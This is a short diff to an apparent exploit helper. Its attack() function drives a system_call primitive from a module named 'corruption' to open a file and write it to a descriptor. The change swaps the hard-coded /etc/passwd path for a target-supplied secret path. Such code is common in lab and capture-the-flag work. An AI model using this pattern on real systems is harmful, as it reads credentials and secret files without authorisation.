@@ -14,4 +14,4 @@ from corruption import system_call
 
 
 def attack(target):
-    system_call(2, [b"/etc/passwd", 0], target["word_fd"])
+    system_call(2, [target["secret"].encode(), 0], target["word_fd"])
